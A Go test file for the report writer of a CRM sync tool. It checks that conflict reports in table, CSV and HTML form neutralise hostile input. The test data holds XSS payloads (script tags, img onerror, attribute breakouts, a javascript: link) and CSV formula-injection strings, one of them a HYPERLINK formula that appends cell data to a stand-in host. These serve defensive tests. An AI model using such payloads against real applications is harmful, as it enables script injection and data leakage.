package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"html"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"tandem"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata")

var (
	t0  = time.Date(2026, 1, 5, 9, 0, 0, 0, time.UTC)
	cet = time.FixedZone("CET", 3600)
)

// sample is one conflict of every kind and status, as the engine records
// them on the sandbox's contacts, and a company whose values look like
// markup and like a spreadsheet formula.
func sample() []tandem.Conflict {
	view := map[string]any{"email": "ada.lovelace.30@example.com", "first_name": "Ada", "last_name": "Lovelace", "phone": "+15550100030"}
	return []tandem.Conflict{{
		ID: 1, Entity: "contact", EntityID: "004da8b0-7c15-4603-83dd-fadae5401d28", Kind: tandem.ConflictField, Field: "phone",
		Base: "+15550100030", Policy: "newest", Status: tandem.ConflictAuto, Decided: "salesforce", Pass: "p-0001",
		Values: map[string]tandem.SideValue{
			"hubspot":    {Value: "+15550100031", ModifiedAt: t0, RecordID: "1001"},
			"salesforce": {Value: "+15550109999", ModifiedAt: t0.Add(90 * time.Second), RecordID: "0035g000000000qAAA"},
		},
		Created: t0.Add(2 * time.Minute), Resolved: t0.Add(2 * time.Minute),
	}, {
		ID: 2, Entity: "contact", EntityID: "0265acb4-8766-47f0-90a1-fb2aacb53394", Kind: tandem.ConflictField, Field: "last_name",
		Base: "Lovelace", Policy: "manual", Status: tandem.ConflictOpen, Decided: "held: manual policy", Pass: "p-0002",
		Values: map[string]tandem.SideValue{
			"hubspot":    {Value: "Lovelace-King", ModifiedAt: t0.Add(time.Hour), RecordID: "1002"},
			"salesforce": {Value: "King, Countess of Lovelace, Augusta Ada", ModifiedAt: t0.Add(time.Hour).In(cet), RecordID: "0035g000000000dAAA"},
		},
		Created: t0.Add(61 * time.Minute).In(cet),
	}, {
		ID: 3, Entity: "contact", Kind: tandem.ConflictIdentity, Policy: "match", Status: tandem.ConflictOpen,
		Decided: "2 entities match [email:ada.lovelace.30@example.com]", Pass: "p-0002",
		Values:  map[string]tandem.SideValue{"salesforce": {Value: view, ModifiedAt: t0.Add(time.Hour), RecordID: "0035g000000000zAAA"}},
		Created: t0.Add(61 * time.Minute),
	}, {
		ID: 4, Entity: "contact", EntityID: "1c9e6f0e-2b4d-4f7a-9a51-3c2f1b7d8e90", Kind: tandem.ConflictDelete, Policy: "quarantine",
		Status: tandem.ConflictOpen, Decided: "held: quarantined until 2026-01-06 11:00:00Z", Pass: "p-0003",
		Values: map[string]tandem.SideValue{
			"hubspot":    {Value: nil, ModifiedAt: t0.Add(2 * time.Hour), RecordID: "1004"},
			"salesforce": {Value: view, ModifiedAt: t0.Add(-24 * time.Hour), RecordID: "0035g000000000aAAA"},
		},
		Created: t0.Add(2 * time.Hour),
	}, {
		ID: 5, Entity: "contact", EntityID: "004da8b0-7c15-4603-83dd-fadae5401d28", Kind: tandem.ConflictField, Field: "first_name",
		Base: "Grace", Policy: "manual", Status: tandem.ConflictResolved, Decided: "hubspot", Pass: "p-0003",
		Values: map[string]tandem.SideValue{
			"hubspot":    {Value: "Grace", ModifiedAt: t0.Add(3 * time.Hour), RecordID: "1001"},
			"salesforce": {Value: nil, ModifiedAt: t0.Add(3 * time.Hour), RecordID: "0035g000000000qAAA"},
		},
		Created: t0.Add(3 * time.Hour), Resolved: t0.Add(5 * time.Hour),
	}, {
		ID: 6, Entity: "company", EntityID: "7d3f2a10-5e6b-4c8d-9f01-a2b3c4d5e6f7", Kind: tandem.ConflictField, Field: "name",
		Base: "Smith & Co", Policy: "prefer:salesforce", Status: tandem.ConflictAuto, Decided: "salesforce", Pass: "p-0003",
		Values: map[string]tandem.SideValue{
			"hubspot":    {Value: "Smith & Co <b>Ltd</b>", ModifiedAt: t0.Add(4 * time.Hour), RecordID: "2001"},
			"salesforce": {Value: `=HYPERLINK("http://x.example/?"&A1,"Smith")`, ModifiedAt: t0.Add(4 * time.Hour), RecordID: "001"},
		},
		Created: t0.Add(4 * time.Hour), Resolved: t0.Add(4 * time.Hour),
	}}
}

// TestGolden renders the sample, and no conflicts, in every format and
// compares with testdata/<case>.<format>; -update rewrites them.
func TestGolden(t *testing.T) {
	opts := Options{Generated: time.Date(2026, 1, 5, 15, 30, 0, 0, time.UTC), Source: "tandem.db", Config: "/etc/tandem/tandem yaml",
		Who: map[string]string{"0265acb4-8766-47f0-90a1-fb2aacb53394": "Ada King <ada.lovelace.30@example.com>"}}
	for _, tc := range []struct {
		name string
		cs   []tandem.Conflict
	}{{"empty", nil}, {"sample", sample()}} {
		for _, format := range Formats {
			t.Run(tc.name+"."+format, func(t *testing.T) {
				var b bytes.Buffer
				var err error
				if format == "html" {
					err = WriteHTML(&b, tc.cs, opts)
				} else {
					err = Write(&b, format, tc.cs)
				}
				if err != nil {
					t.Fatal(err)
				}
				checkGolden(t, filepath.Join("testdata", tc.name+"."+format), b.Bytes())
			})
		}
	}
}

func checkGolden(t *testing.T, file string, got []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("%v (go test ./conflict/report -update creates it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs (go test ./conflict/report -update rewrites it)\n--- got\n%s--- want\n%s", file, got, want)
	}
}

func TestUnknownFormat(t *testing.T) {
	err := Write(&bytes.Buffer{}, "xml", sample())
	if err == nil || !strings.Contains(err.Error(), `"xml"`) || !strings.Contains(err.Error(), "table, json, csv, html") {
		t.Fatalf("got %v, want an error naming xml and the known formats", err)
	}
}

// Write's html is WriteHTML without options: nothing read from a clock.
func TestWriteHTMLDeterministic(t *testing.T) {
	var a, b bytes.Buffer
	if err := Write(&a, "html", sample()); err != nil {
		t.Fatal(err)
	}
	if err := WriteHTML(&b, sample(), Options{}); err != nil {
		t.Fatal(err)
	}
	if a.String() != b.String() || strings.Contains(a.String(), "generated") {
		t.Error("Write html differs from WriteHTML with no options, or shows a generation time")
	}
}

// The JSON is the Conflict type's own form, so it reads back the same.
func TestJSONRoundTrip(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, "json", sample()); err != nil {
		t.Fatal(err)
	}
	var got []tandem.Conflict
	if err := json.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	want, _ := json.Marshal(sample())
	back, _ := json.Marshal(got)
	if string(want) != string(back) {
		t.Errorf("round trip differs\n got %s\nwant %s", back, want)
	}
	var keys []map[string]json.RawMessage
	json.Unmarshal(b.Bytes(), &keys)
	for _, k := range []string{"id", "entity", "entity_id", "kind", "field", "base", "values", "policy", "status", "decided", "pass", "created_at", "resolved_at"} {
		if _, ok := keys[0][k]; !ok {
			t.Errorf("json lacks %q", k)
		}
	}
}

func TestTableTruncates(t *testing.T) {
	c := sample()[0]
	c.Values = map[string]tandem.SideValue{"hubspot": {Value: strings.Repeat("x", 100) + "\x1b[31m"}}
	c.Decided = "a\tb\nc\u202e"
	var b bytes.Buffer
	if err := Write(&b, "table", []tandem.Conflict{c}); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, `hubspot="`+strings.Repeat("x", valueWidth-2)+"…") || strings.Contains(out, strings.Repeat("x", valueWidth)) {
		t.Errorf("long value not cut to %d characters:\n%s", valueWidth, out)
	}
	if strings.ContainsAny(out, "\x1b\t\u202e") || !strings.Contains(out, `a\u0009b\u000ac\u202e`) {
		t.Errorf("control characters reach the terminal:\n%q", out)
	}
	if !strings.HasSuffix(out, "1 conflict (0 open)\n") {
		t.Errorf("last line:\n%s", out)
	}
}

// TestCSVInjection: a cell a spreadsheet would run as a formula starts
// with ' instead, wherever the value comes from; others are untouched.
func TestCSVInjection(t *testing.T) {
	for _, bad := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", `=HYPERLINK("http://x.example")`} {
		t.Run(bad, func(t *testing.T) {
			c := tandem.Conflict{ID: 7, Entity: bad, EntityID: bad, Kind: tandem.ConflictField, Field: bad, Policy: bad, Status: tandem.ConflictOpen,
				Decided: bad, Base: json.Number("-5"),
				Values: map[string]tandem.SideValue{bad: {Value: json.Number("-3"), RecordID: bad}}}
			var b bytes.Buffer
			if err := Write(&b, "csv", []tandem.Conflict{c}); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != 2 || len(rows[0]) != len(csvHeader) {
				t.Fatalf("rows %q", rows)
			}
			got := map[string]string{}
			for i, h := range rows[0] {
				got[h] = rows[1][i]
			}
			for _, col := range []string{"entity", "entity_id", "field", "policy", "decided", "system", "record_id"} {
				if got[col] != "'"+bad {
					t.Errorf("%s = %q, want %q", col, got[col], "'"+bad)
				}
			}
			if got["base"] != "'-5" || got["value"] != "'-3" {
				t.Errorf("base %q, value %q: want '-5 and '-3", got["base"], got["value"])
			}
			if got["id"] != "7" || got["kind"] != "field" || got["status"] != "open" {
				t.Errorf("safe cells changed: %q", rows[1])
			}
		})
	}
	// A string value is JSON: it starts with a quote, so it is text already.
	if got := defuse(compact("=1+1")); got != `"=1+1"` {
		t.Errorf("defuse(%q) = %q", compact("=1+1"), got)
	}
}

func TestCSVRowPerSide(t *testing.T) {
	var b bytes.Buffer
	cs := sample()
	cs = append(cs, tandem.Conflict{ID: 9, Entity: "contact", Kind: tandem.ConflictIdentity, Status: tandem.ConflictOpen})
	if err := Write(&b, "csv", cs); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := 1 // the header
	for _, c := range cs {
		want += max(1, len(c.Values))
	}
	if len(rows) != want {
		t.Errorf("%d rows, want %d", len(rows), want)
	}
}

// hostile is a conflict carrying markup in every string the page shows:
// values, keys of a record's view, system names, ids, reasons.
func hostile() []tandem.Conflict {
	const script = `<script>document.title='pwned'</script>`
	const img = `"><img src=x onerror="document.body.dataset.pwned=1">`
	const attr = `' onmouseover='document.body.dataset.pwned=1' x='`
	return []tandem.Conflict{{
		ID: 1, Entity: "contact", EntityID: img, Kind: tandem.ConflictField, Field: script, Base: img,
		Policy: attr, Status: tandem.ConflictOpen, Decided: script, Pass: img,
		Values: map[string]tandem.SideValue{
			"hubspot": {Value: script, ModifiedAt: t0, RecordID: img},
			img:       {Value: img, ModifiedAt: t0, RecordID: script},
		},
		Created: t0,
	}, {
		ID: 2, Entity: img, EntityID: script, Kind: tandem.ConflictIdentity, Policy: "match", Status: script, Decided: attr,
		Values: map[string]tandem.SideValue{
			"salesforce": {Value: map[string]any{script: img, "email": script, "note": attr}, RecordID: attr},
		},
		Created: t0,
	}, {
		ID: 3, Entity: "contact", EntityID: "e3", Kind: tandem.ConflictField, Field: "phone", Base: "1",
		Policy: "newest", Status: tandem.ConflictAuto, Decided: "salesforce",
		Values:  map[string]tandem.SideValue{"hubspot": {Value: "2"}, "salesforce": {Value: "3"}},
		Created: t0, Resolved: t0,
	}, {
		ID: 4, Entity: "company", EntityID: "e4", Kind: tandem.ConflictDelete, Policy: "quarantine", Status: tandem.ConflictResolved, Decided: "hubspot",
		Values:  map[string]tandem.SideValue{"hubspot": {Value: map[string]any{"name": "Acme"}}, "salesforce": {Value: nil}},
		Created: t0, Resolved: t0,
	}}
}

// TestHTMLEscapes: markup in any value reaches the page source as text.
func TestHTMLEscapes(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, "html", hostile()); err != nil {
		t.Fatal(err)
	}
	src := b.String()
	for _, want := range []string{
		`&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;`,
		`&#34;&gt;&lt;img src=x onerror=&#34;document.body.dataset.pwned=1&#34;&gt;`,
		`&#39; onmouseover=&#39;document.body.dataset.pwned=1&#39; x=&#39;`,
	} {
		if !strings.Contains(src, want) {
			t.Errorf("page lacks the escaped text %s", want)
		}
	}
	for _, bad := range []string{"<script>document", "<img", "' onmouseover", `" onerror`} {
		if strings.Contains(src, bad) {
			t.Errorf("page source holds %q unescaped", bad)
		}
	}
	if n := strings.Count(src, "<script"); n != 1 {
		t.Errorf("%d <script elements, want only the page's own", n)
	}
	// Self-contained: nothing is fetched from anywhere.
	for _, bad := range []string{"http:", "https:", "//cdn", "@import", "url(", " src="} {
		if strings.Contains(strings.ReplaceAll(src, "src=x", ""), bad) {
			t.Errorf("page refers to something outside itself: %q", bad)
		}
	}
}

// The CSP hashes are of the script and style the page holds, byte for
// byte; the browser test shows the script runs under them.
func TestHTMLPolicy(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, "html", nil); err != nil {
		t.Fatal(err)
	}
	src := b.String()
	if !strings.Contains(src, "<script>"+pageJS+"</script>") || !strings.Contains(src, "<style>"+pageCSS+"</style>") {
		t.Error("the page's script or style is not inserted verbatim, so its CSP hash would not match")
	}
	// The policy is an attribute, where html/template writes + as &#43;.
	for _, want := range []string{"script-src 'sha256-", hash(pageJS), hash(pageCSS), "default-src 'none'", `<meta name="viewport"`, "No conflicts to show."} {
		if !strings.Contains(html.UnescapeString(src), want) {
			t.Errorf("page lacks %s", want)
		}
	}
}

// With Options.Link, each side's record id links to the record in its
// system's UI (a side named "system:id" by its system); an address that
// is not http(s) is not followed, whatever Link returns.
func TestHTMLRecordLinks(t *testing.T) {
	cs := sample()
	cs[0].Values["salesforce:0035g000000000xAAA"] = tandem.SideValue{Value: "+1", RecordID: "0035g000000000xAAA"}
	var b bytes.Buffer
	link := func(entity, system, id string) string {
		switch system {
		case "salesforce":
			return "https://acme.lightning.force.com/lightning/r/Contact/" + id + "/view"
		case "hubspot":
			return "javascript:alert(1)"
		}
		return ""
	}
	if err := WriteHTML(&b, cs, Options{Generated: t0, Link: link}); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, id := range []string{"0035g000000000qAAA", "0035g000000000xAAA"} {
		if want := `<a href="https://acme.lightning.force.com/lightning/r/Contact/` + id + `/view" rel="noreferrer noopener"`; !strings.Contains(page, want) {
			t.Errorf("no link to salesforce record %s", id)
		}
	}
	if strings.Contains(page, "javascript:") {
		t.Error("a javascript: address made it into the page")
	}
	b.Reset()
	if err := WriteHTML(&b, cs, Options{Generated: t0}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "<a href") {
		t.Error("links without Options.Link")
	}
}
